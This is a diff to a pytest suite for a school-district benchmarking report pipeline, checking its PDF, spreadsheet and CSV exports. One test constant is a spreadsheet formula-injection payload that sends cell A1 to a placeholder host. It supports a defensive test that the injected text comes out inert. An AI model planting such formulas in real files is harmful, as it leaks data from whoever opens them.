@@ -10,7 +10,7 @@ out inert; a withdrawn district has no report; expired reports are purged.
 import csv
 import hashlib
 import io
-import subprocess
+import re
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -18,30 +18,25 @@ import dagster as dg
 import polars as pl
 import pytest
 from openpyxl import load_workbook
-from PIL import Image
 
 from benchmarking_assets.cli.participants import demo_participants
 from benchmarking_assets.core.benchmarks import (
     compute_district_benchmarks,
     compute_state_benchmarks,
 )
-from benchmarking_assets.core.catalog import METRICS
+from benchmarking_assets.core.catalog import METRICS, PUBLIC_METRICS
 from benchmarking_assets.core.schemas import DISTRICT_DATA_HISTORY
 from benchmarking_assets.defs.partitions import report_key, sync_participant_partitions
 from benchmarking_assets.defs.resources import PrivacySettings, ReportSettings, Warehouse
 from benchmarking_assets.store import WarehouseStore, audit, participation
-from benchmarking_assets.store.reports import purge_expired_reports
+from benchmarking_assets.store.reports import RENDERERS, purge_expired_reports
 from benchmarking_assets_tests.definitions_support import assets_of
-from benchmarking_assets_tests.system_tools import require_executable
+from benchmarking_assets_tests.pdf_support import extract_text, render_pages
 
 YEARS = range(2016, 2021)
 YEAR = 2020
 STATES = (("CA", 6), ("OR", 41), ("NV", 32))
 EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'
-
-
-def poppler(tool: str) -> str:
-    return require_executable(tool, apt_package="poppler-utils")
 
 
 def _u(*parts: object) -> float:
@@ -152,10 +147,11 @@ def peer(store: WarehouseStore, cohort_id: str, metric: str) -> dict:
 def test_files_are_listed_under_year_and_leaid(world: dict) -> None:
     store, leaid = world["store"], world["leaids"][1]
     found = paths(store, leaid)
-    assert set(found) == {"pdf", "xlsx", "csv"}
+    assert set(found) == {"pdf", "xlsx", "csv", "csv_wide"}
     for fmt_, path in found.items():
         assert path.parent == world["tmp"] / "reports" / str(YEAR) / leaid and path.exists()
-        assert path.name == f"benchmark_report_{leaid}_{YEAR}.{fmt_}"
+        ending = "_wide.csv" if fmt_ == "csv_wide" else f".{fmt_}"
+        assert path.name == f"benchmark_report_{leaid}_{YEAR}{ending}"
     metadata = world["last"].asset_materializations_for_node("reports_multi_asset")
     shown = {m.asset_key.to_user_string(): m.metadata for m in metadata}
     assert shown["benchmark_reports"]["reports"].value == 1
@@ -165,18 +161,13 @@ def test_files_are_listed_under_year_and_leaid(world: dict) -> None:
 def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: dict) -> None:
     store, leaid = world["store"], world["leaids"][1]
     pdf = paths(store, leaid)["pdf"]
-    out = world["tmp"] / "png"
-    pdftoppm = poppler("pdftoppm")
-    subprocess.run([pdftoppm, "-png", "-r", "40", "-f", "1", "-l", "2", str(pdf), str(out)],
-                   check=True)  # fmt: skip
-    pages = sorted(world["tmp"].glob("png-*.png"))
+    pages = render_pages(pdf, dpi=40, first=1, last=2)
     assert len(pages) == 2
-    for page in pages:
-        gray = Image.open(page).convert("L")
+    for number, page in enumerate(pages, start=1):
+        gray = page.convert("L")
         dark = sum(1 for v in gray.getdata() if v < 200)
-        assert dark > 0.01 * gray.width * gray.height, f"{page.name} looks blank"
-    text = subprocess.run([poppler("pdftotext"), "-layout", str(pdf), "-"], check=True,
-                          capture_output=True, text=True).stdout  # fmt: skip
+        assert dark > 0.01 * gray.width * gray.height, f"page {number} looks blank"
+    text = extract_text(pdf)
     row = warehouse_row(store, leaid)
     grad = peer(store, row["cohort_id"], "graduation")
     name = store.scalar("SELECT lea_name FROM district_data_history WHERE leaid = :l", {"l": leaid})
@@ -189,25 +180,91 @@ def test_pdf_renders_to_non_blank_pages_carrying_the_warehouse_numbers(world: di
     assert "epsilon = 1" in text  # private metrics are DP, with their epsilon
 
 
+QUARTERS = {"well_below": "lowest 25%", "below": "25-50%", "above": "50-75%",
+            "well_above": "highest 25%"}  # fmt: skip
+SNAKE = re.compile(r"\b[a-z][a-z0-9]*_[a-z0-9_]+\b")
+
+
 def test_xlsx_cells_equal_the_warehouse_values(world: dict) -> None:
     store, leaid = world["store"], world["leaids"][1]
     wb = load_workbook(paths(store, leaid)["xlsx"])
-    assert {"Summary", "Comparisons", "Trends", "Peers", "Insights", "Notes"} <= set(wb.sheetnames)
+    assert {"Summary", "Comparisons", "Trends", "Charts", "Peers", "Peer districts", "Insights",
+            "Notes"} <= set(wb.sheetnames)  # fmt: skip
     row = warehouse_row(store, leaid)
     comparisons = {r[0]: r for r in wb["Comparisons"].iter_rows(min_row=2, values_only=True)}
-    math_row = comparisons["math_proficiency"]
+    math_row = comparisons["Math proficiency"]
     # numeric cells; openpyxl writes 15 significant digits, Excel's own precision
     assert math_row[4] == pytest.approx(row["math_proficiency"], rel=1e-14)
     assert math_row[7] == pytest.approx(row["math_proficiency_vs_state"], rel=1e-14)
-    assert math_row[9] == row["math_proficiency_quartile_state"]
+    assert math_row[9] == QUARTERS[row["math_proficiency_quartile_state"]]
+    assert math_row[10] == pytest.approx(row["math_proficiency_trend_3yr"], rel=1e-14)
     peers = {r[0]: r for r in wb["Peers"].iter_rows(min_row=2, values_only=True)}
     cell = peer(store, row["cohort_id"], "math_proficiency")
-    assert peers["math_proficiency"][3:10] == pytest.approx(
+    assert peers["Math proficiency"][5:12] == pytest.approx(
         tuple(cell[c] for c in ("n", "mean", "median", "p25", "p75", "p90", "std")), rel=1e-14
     )
     trends = [r for r in wb["Trends"].iter_rows(min_row=2, values_only=True)
-              if r[0] == "expenditure_pp"]  # fmt: skip
+              if r[0] == "Expenditure per pupil"]  # fmt: skip
     assert [r[1] for r in trends] == list(YEARS)
+    members = store.read_df(
+        "SELECT leaid FROM peer_cohorts WHERE year = :y AND cohort_id = :c ORDER BY leaid",
+        {"y": YEAR, "c": row["cohort_id"]},
+    )["leaid"].to_list()
+    listed = [r[0] for r in wb["Peer districts"].iter_rows(min_row=2, values_only=True)]
+    assert sorted(listed) == members
+
+
+def test_xlsx_reads_like_a_spreadsheet_a_person_made(world: dict) -> None:
+    wb = load_workbook(paths(world["store"], world["leaids"][1])["xlsx"])
+    ws = wb["Comparisons"]
+    header = [c.value for c in ws[1]]
+    by_label = {r[0].value: r for r in ws.iter_rows(min_row=2)}
+    math_row, spend = by_label["Math proficiency"], by_label["Expenditure per pupil"]
+    col = {h: i for i, h in enumerate(header)}
+    assert math_row[col["Your district"]].number_format == '0.0"%"'
+    assert spend[col["Your district"]].number_format == '"$"#,##0'
+    assert math_row[col["Difference from state"]].number_format.startswith('+0.0" pts"')
+    assert math_row[col["3-year change"]].number_format.startswith('+0.0" pts"')
+    assert spend[col["3-year change"]].number_format.startswith('+0.0"%"')
+    assert by_label["English learners"][col["3-year change"]].number_format.startswith(
+        '+0.0"% in count"'
+    )
+    assert math_row[col["Percentile among peers"]].number_format == "0"
+    for sheet in ("Summary", "Comparisons", "Peers", "Trends", "Peer districts", "Insights"):
+        s = wb[sheet]
+        assert s.freeze_panes in ("A2", "B2"), sheet
+        assert len(s.tables) == 1, sheet  # an Excel table: filter buttons, stripes
+        table = next(iter(s.tables.values()))
+        assert table.ref.startswith("A1:") and table.autoFilter is not None, sheet
+        for c in s[1]:  # headers are words, and the column is wide enough for them
+            assert not SNAKE.search(str(c.value)), (sheet, c.value)
+            width = s.column_dimensions[c.column_letter].width
+            assert width >= min(len(str(c.value)), 60), (sheet, c.value, width)
+        for r in s.iter_rows(min_row=2, values_only=True):
+            for v in r:
+                if isinstance(v, str) and sheet not in ("Peer districts",):
+                    assert not SNAKE.search(v), (sheet, v)
+    assert len(wb["Charts"]._charts) == len(PUBLIC_METRICS)  # one line chart per metric
+    assert len(ws._charts) == 1  # percentiles among peers, a native bar chart
+
+
+def test_wide_csv_is_one_readable_row_per_metric(world: dict) -> None:
+    store, leaid = world["store"], world["leaids"][1]
+    text = paths(store, leaid)["csv_wide"].read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["Metric"] for r in rows] == [m.label for m in PUBLIC_METRICS]
+    assert not any(SNAKE.search(h) for h in rows[0])
+    row = warehouse_row(store, leaid)
+    got = {r["Metric"]: r for r in rows}
+    assert float(got["Math proficiency"]["Your district"]) == round(row["math_proficiency"], 1)
+    assert float(got["Expenditure per pupil"]["Your district"]) == round(row["expenditure_pp"])
+    assert got["Math proficiency"]["Change unit"] == "pts"
+    assert got["Expenditure per pupil"]["Change unit"] == "%"
+    assert got["English learners"]["Change unit"] == "% in count"
+    assert got["Math proficiency"]["Which way is better"] == "higher is better for students"
+    for r in rows:  # no value carries more than the printed precision
+        for key in ("Your district", "State average", "Nation", "Peer median"):
+            assert "." not in r[key] or len(r[key].split(".")[1]) == 1, (key, r[key])
 
 
 def test_csv_round_trips(world: dict) -> None:
@@ -239,8 +296,7 @@ def test_injection_strings_come_out_inert(world: dict) -> None:
     negatives = [c for r in comparisons.iter_rows(min_row=2) for c in r
                  if isinstance(c.value, float) and c.value < 0]  # fmt: skip
     assert negatives and all(c.data_type == "n" for c in negatives)
-    text = subprocess.run([poppler("pdftotext"), str(found["pdf"]), "-"], check=True,
-                          capture_output=True, text=True).stdout  # fmt: skip
+    text = extract_text(found["pdf"])
     assert "HYPERLINK" in text  # shown as text in the PDF, escaped for reportlab's markup
 
 
@@ -258,7 +314,7 @@ def test_private_section_only_for_shared_categories_and_published_cells(world: d
 def test_generation_and_exports_are_audited(world: dict) -> None:
     log = audit.read_log(world["store"], world["leaids"][1])
     actions = log["action"].to_list()
-    assert actions.count("report.generate") == 1 and actions.count("report.export") == 3
+    assert actions.count("report.generate") == 1 and actions.count("report.export") == 4
 
 
 def test_insights_are_stored_with_numbers(world: dict) -> None:
@@ -304,7 +360,8 @@ def test_withdrawn_district_has_no_report(world: dict) -> None:
     # the withdrawal itself deletes its report files and rows (they print its values) …
     assert not any(p.exists() for p in files.values())
     withdrawal = audit.read_log(store, leaid).filter(pl.col("action") == "participant.withdraw")
-    assert '"report_files_deleted": 3' in withdrawal["details"][0]
+    assert len(files) == len(RENDERERS)  # PDF, XLSX, long and wide CSV
+    assert f'"report_files_deleted": {len(RENDERERS)}' in withdrawal["details"][0]
     # … and a run already requested for its partition generates nothing
     run(dg.materialize(assets_of(groups=["reports"]), resources=res, instance=instance,
                        partition_key=report_key(leaid, YEAR)))  # fmt: skip
